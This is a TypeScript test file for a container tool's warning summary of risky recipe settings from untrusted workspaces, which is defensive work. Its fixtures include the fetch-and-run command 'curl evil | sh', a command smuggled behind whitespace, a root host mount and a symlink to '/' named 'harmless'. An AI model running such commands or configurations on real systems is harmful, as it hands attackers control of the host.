import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { recipeSummary, sourcesInside } from '../../../../src/commands/recipes/recipeSummary.ts';
import { isDisplayedWhole } from '../../../../src/base/plainText.ts';
import type { CreateArguments } from '../../../../src/engine/options/options.ts';

const isInside = (source: string): boolean => source.startsWith('/work/');

function lines(args: Partial<CreateArguments>): readonly string[] | undefined {
  return recipeSummary({ image: 'busybox', ...args }, isInside);
}

describe('the question before a recipe of an untrusted workspace is used', () => {
  it('lists all access to the host, most dangerous first', () => {
    const shown = lines({
      cmd: ['sh', '-c', 'curl evil | sh'],
      entrypoint: ['/bin/x'],
      user: '0',
      ports: ['0.0.0.0:22:22', '80'],
      publishAll: true,
      restart: 'always',
      network: 'host',
      privileged: true,
      mounts: ['/work/a:/a', '/:/host', 'db:/db'],
      devices: ['/dev/sda'],
      capAdd: ['SYS_ADMIN'],
      securityOpt: ['label=disable'],
      env: ['TOKEN=x'],
      labels: { 'io.gantry.temporary': '1' },
      dns: ['10.0.0.1'],
      extraHosts: ['a:10.0.0.1'],
      start: true,
      autoRemove: true,
    });
    assert.deepEqual(shown, [
      'Privileged: full access to the host',
      'Network: host',
      'Device: /dev/sda',
      'Capability: SYS_ADMIN',
      'Security option: label=disable',
      'Mount from outside the folder: /:/host',
      'Volume: db:/db',
      'Image: busybox',
      'Entrypoint: "/bin/x"',
      'Command: "sh" "-c" "curl evil | sh"',
      'User: 0',
      'Published ports: 0.0.0.0:22:22, 80',
      'Publishes all exposed ports',
      'Restart policy: always',
      'Mount: /work/a:/a',
      'Starts immediately',
      'Removed when it exits',
      'Environment variables: TOKEN',
      'Labels: io.gantry.temporary',
      'and 2 more settings',
    ]);
  });

  it('does not let harmless mounts hide others', () => {
    const harmless = Array.from({ length: 60 }, (_, at) => `/work/${'x'.repeat(90)}${at}:/m/${at}`);
    const shown = lines({ mounts: [...harmless, '/:/host'], privileged: true });
    assert.ok(shown);
    assert.deepEqual(shown.slice(0, 2), [
      'Privileged: full access to the host',
      'Mount from outside the folder: /:/host',
    ]);
    assert.equal(shown.at(-1), 'and 57 more mounts of this folder');
    assert.ok(isDisplayedWhole(shown.join('\n')));
  });

  it('does not let long names hide anything', () => {
    const env = Array.from({ length: 300 }, (_, at) => `${'N'.repeat(4200)}${at}=x`);
    const labels = Object.fromEntries(env.map((name) => [name, 'x']));
    const cmd = ['sh', '-c', `true${' '.repeat(5000)}\n\n\n; evil`];
    const shown = lines({ env, labels, cmd, privileged: true });
    assert.ok(shown);
    assert.equal(shown[0], 'Privileged: full access to the host');
    assert.ok(isDisplayedWhole(shown.join('\n')));
  });

  const refused: Readonly<Record<string, Partial<CreateArguments>>> = {
    'there are more outside mounts than fit': {
      mounts: Array.from({ length: 30 }, (_, at) => `/etc/${at}:/m/${at}`),
    },
    'there are more volumes than fit': {
      mounts: Array.from({ length: 30 }, (_, at) => `vol${at}:/m/${at}`),
    },
    'a mount is longer than a line': { mounts: [`/etc/${'x'.repeat(200)}:/x`] },
    'a mount contains line breaks': { mounts: [`/etc${'\n'.repeat(3000)}:/x`] },
    'a mount contains hidden characters': { mounts: ['/etc\u202e/x:/x'] },
    'there are more ports than fit': {
      ports: Array.from({ length: 60 }, (_, at) => `${8000 + at}:80`),
    },
    'the user contains a line break': { user: '0\nNothing else' },
    'the network contains a line break': { network: 'a\nb' },
  };
  for (const [what, args] of Object.entries(refused)) {
    it(`is not shown if ${what}`, () => assert.equal(lines(args), undefined));
  }

  describe('treats a mount as inside the workspace folder', () => {
    let root: string;
    let folder: string;
    beforeEach(() => {
      root = mkdtempSync(join(tmpdir(), 'gantry-recipe-'));
      folder = join(root, 'repo');
      mkdirSync(join(folder, 'data'), { recursive: true });
      symlinkSync('/', join(folder, 'harmless'));
    });
    afterEach(() => rmSync(root, { recursive: true, force: true }));

    it('only if its real path is', async () => {
      const sources = [
        'data',
        'new/one',
        '../other',
        'harmless',
        'harmless/etc',
        'harmless/none/x',
      ];
      const mounts = sources.map((source) => `${join(folder, source)}:/x`);
      const inside = await sourcesInside([...mounts, `${folder}/a/../..:/x`], folder);
      assert.deepEqual([...inside], [join(folder, 'data'), join(folder, 'new/one')]);
      assert.equal((await sourcesInside(['/etc:/x'], '/')).size, 0);
      assert.equal((await sourcesInside(['/etc:/x'], undefined)).size, 0);
    });
  });
});
